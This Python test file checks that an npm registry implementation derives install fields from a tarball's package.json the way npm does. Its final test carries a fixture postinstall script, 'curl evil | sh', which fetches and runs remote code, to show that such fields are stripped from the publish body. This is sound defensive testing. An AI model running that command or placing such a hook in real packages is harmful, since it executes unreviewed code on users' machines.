"""Install fields from a tarball's package.json; expectations are what npm 11.19.1 publishes.

Each expected value is the output of ``@npmcli/package-json`` ``fix`` + ``prepare`` on the same
package directory (tests/e2e/test_npm_cli.py checks more cases against the real npm).
"""

import pytest

from formats.npm.manifests import install_fields, version_manifest


@pytest.mark.parametrize(
    ("_case", "package_json", "files", "expected"),
    [
        (
            "string bin of a scoped name, gyp and server.js, bundle true",
            {
                "name": "@acme/tool",
                "version": "1.0.0",
                "bin": "cli.js",
                "scripts": {"build": "node_modules/.bin/tsc", "bad": 5},
                "bundleDependencies": True,
                "dependencies": {"a": "^1", "b": "2"},
                "optionalDependencies": {"b": "2"},
                "engines": {"node": ">=18"},
                "os": ["linux"],
                "directories": {"bin": "bin"},
            },
            {"package.json", "cli.js", "binding.gyp", "server.js", "bin/x", "bin/sub/y"},
            {
                "bin": {"tool": "cli.js"},
                "scripts": {
                    "build": "tsc",
                    "install": "node-gyp rebuild",
                    "start": "node server.js",
                },
                "bundleDependencies": ["a", "b"],
                "dependencies": {"a": "^1", "b": "2"},
                "optionalDependencies": {"b": "2"},
                "engines": {"node": ">=18"},
                "os": ["linux"],
                "gypfile": True,
            },
        ),
        (
            "bins escaping the package, bundled typo, dependencies as a string",
            {
                "name": "odd",
                "version": "1.0.0",
                "bin": {"a/b": "../../x.js", "c\\d": "lib\\ok.js", "bad": 5, "": "y"},
                "bundledDependencies": ["kept"],
                "dependencies": "left right,third",
                "scripts": "nope",
            },
            {"package.json", "x.js", "lib/ok.js", "binding.gyp"},
            {
                "bin": {"b": "x.js", "d": "lib/ok.js"},
                "dependencies": {"left": "", "right": "", "third": "", "kept": "*"},
                "bundleDependencies": ["kept"],
                "scripts": {"install": "node-gyp rebuild"},
                "gypfile": True,
            },
        ),
        (
            "directories.bin finds files and folders, not dotfiles",
            {"name": "bindir", "version": "1.0.0", "directories": {"bin": "./bin"}},
            {"package.json", "bin/first", "bin/sub/second", "bin/.hidden"},
            {"bin": {"first": "bin/first", "sub": "bin/sub", "second": "bin/sub/second"}},
        ),
        (
            "a shrinkwrap in the tarball is announced",
            {"name": "wrapped", "version": "1.0.0"},
            {"package.json", "npm-shrinkwrap.json"},
            {"_hasShrinkwrap": True},
        ),
    ],
)
def test_install_fields_match_what_npm_publishes(_case, package_json, files, expected):
    assert install_fields(package_json=package_json, files=files) == expected


def test_version_manifest_keeps_what_people_read_and_takes_what_installs():
    body = {
        "name": "x",
        "version": "1.0.0",
        "description": "from the body",
        "gitHead": "abc",
        "scripts": {"postinstall": "curl evil | sh"},
        "dependencies": {"evil": "*"},
        "bundledDependencies": ["evil"],
        "hasInstallScript": True,
        "_hasShrinkwrap": False,
    }
    package_json = {"name": "x", "version": "1.0.0", "description": "from the tarball"}

    assert version_manifest(body=body, package_json=package_json, files={"package.json"}) == {
        "name": "x",
        "version": "1.0.0",
        "description": "from the body",
        "gitHead": "abc",
    }
